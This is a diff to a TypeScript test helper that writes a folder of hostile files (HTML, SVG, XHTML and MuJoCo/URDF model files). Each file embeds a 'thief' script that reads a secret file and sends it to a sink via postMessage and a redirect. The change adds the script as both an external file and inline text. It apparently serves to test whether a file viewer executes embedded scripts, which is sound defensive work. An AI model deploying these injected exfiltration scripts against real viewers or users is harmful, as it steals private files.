@@ -24,10 +24,11 @@ export function writeHostileFolder(folder: string, sink: string): void {
     'mesh.stl': 'solid mesh',
     'style.css': `body { --stolen: ${SECRET} }`,
     'list.json': `{ "stolen": "${SECRET}" }`,
-    'page.html': `<!doctype html><body><script>${thief(sink)}</script>`,
-    'page.htm': `<!doctype html><body><script>${thief(sink)}</script>`,
-    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${thief(sink)}]]></script></body></html>`,
-    'page.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${thief(sink)}]]></script></svg>`,
+    'thief.js': thief(sink),
+    'page.html': `<!doctype html><body>${scripts(sink)}`,
+    'page.htm': `<!doctype html><body>${scripts(sink)}`,
+    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body>${scripts(sink)}</body></html>`,
+    'page.svg': `<svg xmlns="http://www.w3.org/2000/svg">${scripts(sink)}</svg>`,
     'page.xml': mixed(sink),
     'page.urdf': mixed(sink),
   }
@@ -35,9 +36,15 @@ export function writeHostileFolder(folder: string, sink: string): void {
   for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content)
 }
 
-/** A model with a script, which browsers run where they show XML. */
+/** A model with scripts, which browsers run where they show XML. */
 function mixed(sink: string): string {
-  return `<mujoco><h:script xmlns:h="http://www.w3.org/1999/xhtml"><![CDATA[${thief(sink)}]]></h:script></mujoco>`
+  const inner = scripts(sink).replaceAll(/(<\/?)script/g, '$1h:script')
+  return `<mujoco xmlns:h="http://www.w3.org/1999/xhtml">${inner}</mujoco>`
+}
+
+/** The thief as the text of a script, and as a file: a page may allow one and not the other. */
+function scripts(sink: string): string {
+  return `<script src="thief.js" href="thief.js"></script><script>//<![CDATA[\n${thief(sink)}\n//]]></script>`
 }
 
 /** A script that reads the secret beside it and sends it away, in every way there is. */
@@ -51,7 +58,7 @@ function thief(sink: string): string {
       for (const other of [window.opener, window.parent !== window && window.parent])
         if (other) other.postMessage(text, '*')
     }
-    send('a script has run')
+    send('run by a script')
     send(await (await fetch('/model/secret.xml')).text())
     location.href = '${sink}' + location.port + '/stolen?left'
   })()`
